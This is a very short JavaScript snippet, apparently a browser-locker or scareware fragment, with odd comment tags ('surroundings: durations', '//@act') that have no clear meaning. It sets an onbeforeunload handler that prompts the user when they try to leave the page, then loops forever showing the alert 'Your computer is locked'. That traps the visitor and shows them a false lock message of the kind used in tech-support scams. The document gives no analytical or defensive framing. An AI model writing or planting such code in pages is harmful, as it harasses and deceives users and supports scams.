// surroundings: durations
onbeforeunload = () => '';
while (true) alert('Your computer is locked'); //@act
